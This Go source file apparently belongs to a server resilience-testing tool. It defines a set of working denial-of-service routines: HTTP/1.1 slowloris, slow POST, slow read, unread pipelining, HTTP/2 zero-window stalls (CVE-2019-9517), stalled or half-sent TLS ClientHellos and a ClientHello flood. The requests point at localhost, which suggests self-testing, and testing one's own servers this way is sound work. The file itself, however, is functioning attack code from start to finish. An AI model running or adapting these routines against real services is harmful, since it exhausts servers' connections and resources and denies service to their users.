package attack

import (
	"bytes"
	"io"

	"golang.org/x/net/http2"
)

// slowAttacks hold connections. The one that does not read is at full speed until it is stuck.
func slowAttacks() []Attack {
	return []Attack{
		{Name: "h1-pipeline", What: "pipelined requests for large objects whose answers nobody reads", Plain: true, run: pipeline},
		{Name: "h1-slowloris", What: "a header that grows by an octet now and then", Slow: true, Plain: true, run: loris("GET / HTTP/1.1\r\nHost: localhost\r\nX-Slow: ")},
		{Name: "tls-slowloris", What: "the same over TLS", Slow: true, run: secured(loris("GET / HTTP/1.1\r\nHost: localhost\r\nX-Slow: "))},
		{Name: "h1-slow-post", What: "a content that grows by an octet now and then", Slow: true, Plain: true, run: loris("POST /1k.bin HTTP/1.1\r\nHost: localhost\r\nContent-Length: 1000000\r\n\r\n")},
		{Name: "h1-slow-read", What: "large objects, read by an octet now and then", Slow: true, Plain: true, run: slowRead},
		{Name: "h2-zero-window", What: "requests for large objects with windows that stay shut (CVE-2019-9517)", Slow: true, run: zeroWindow},
		{Name: "h2-stalled-preface", What: "TLS, and then not a word of HTTP/2", Slow: true, run: stalledPreface},
		{Name: "tls-stalled", What: "a connection to the TLS port, and then not a word", Slow: true, run: (*session).hold},
		{Name: "tls-stalled-hello", What: "a ClientHello, and then not a word", Slow: true, run: func(s *session) error { return s.greet(len(s.hello)) }},
		{Name: "tls-half-hello", What: "half a ClientHello, and then not a word", Slow: true, run: func(s *session) error { return s.greet(len(s.hello) / 2) }},
		{Name: "tls-hello-flood", What: "ClientHellos at full speed, each on a connection that is left when the answer comes", run: helloFlood},
	}
}

// pipeline sends requests until nothing more can be sent, and waits.
func pipeline(s *session) error {
	one := "GET " + s.target.Large + " HTTP/1.1\r\nHost: localhost\r\n\r\n"
	const many = 200
	requests := bytes.Repeat([]byte(one), many)
	for {
		if err := s.write(many, requests); err != nil {
			return err
		}
	}
}

// loris sends a beginning, and then an octet at a time.
func loris(beginning string) func(*session) error {
	return func(s *session) error {
		if err := s.write(0, []byte(beginning)); err != nil {
			return err
		}
		ended := s.background(s.hold)
		err := s.drip(func() error {
			_, err := io.WriteString(s.conn, "a")
			return err
		})
		select {
		case heard := <-ended: // who reads knows better
			return heard
		default:
			return err
		}
	}
}

func secured(run func(*session) error) func(*session) error {
	return func(s *session) error {
		if err := s.secure("http/1.1"); err != nil {
			return err
		}
		return run(s)
	}
}

// slowRead asks for more than the system's buffers hold.
func slowRead(s *session) error {
	one := "GET " + s.target.Large + " HTTP/1.1\r\nHost: localhost\r\n\r\n"
	if err := s.write(0, bytes.Repeat([]byte(one), 16)); err != nil {
		return err
	}
	octet := make([]byte, 1)
	return s.drip(func() error {
		_, err := s.conn.Read(octet)
		return err
	})
}

func zeroWindow(s *session) error {
	h, err := s.begin(true, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
	if err != nil {
		return err
	}
	for range 100 {
		if _, err := h.get(h.target.Large); err != nil {
			return h.why(err)
		}
		h.units++
	}
	return h.wait()
}

func stalledPreface(s *session) error {
	if err := s.secure("h2"); err != nil {
		return err
	}
	return s.hold()
}

// greet sends the beginning of a handshake and waits.
func (s *session) greet(n int) error {
	if err := s.write(1, s.hello[:n]); err != nil {
		return err
	}
	return s.hold()
}

// helloFlood lets the server do its share of a handshake.
func helloFlood(s *session) error {
	if err := s.write(1, s.hello); err != nil {
		return err
	}
	if _, err := s.conn.Read(make([]byte, 4096)); err != nil {
		return err
	}
	return errOwn
}
